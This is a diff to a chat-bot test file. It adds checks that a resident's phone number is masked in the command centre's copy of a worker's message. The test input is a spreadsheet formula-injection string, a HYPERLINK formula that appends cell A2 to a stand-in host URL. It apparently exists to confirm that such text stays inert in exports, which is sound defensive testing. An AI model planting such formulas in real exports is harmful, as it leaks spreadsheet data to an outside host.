@@ -158,6 +158,8 @@ async def test_a_written_explanation_typed_as_a_formula_stays_text_in_every_work
     why = '=HYPERLINK("http://x.example/?"&A2,"点我")&"居民电话13800138000"'
     await h.api.send_text(worker, why, chat_id=GRID_NHJ1_01_CHAT, reply_to=prompt)
     await h.api.wait_for_bot_message(GRID_NHJ1_01_CHAT, has(texts.SLA_EXPLAINED.format(number=number)))
+    copy = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: (m.get("text") or "").startswith("📝"))
+    assert "13800138000" not in copy["text"] and "138****8000" in copy["text"]  # the command centre's copy
 
     await h.api.send_text(h.staff(COMMANDER, "冯晓燕"), "/export month", chat_id=COMMAND_CHAT)
     message = await h.api.wait_for_bot_message(COMMAND_CHAT, lambda m: "document" in m)
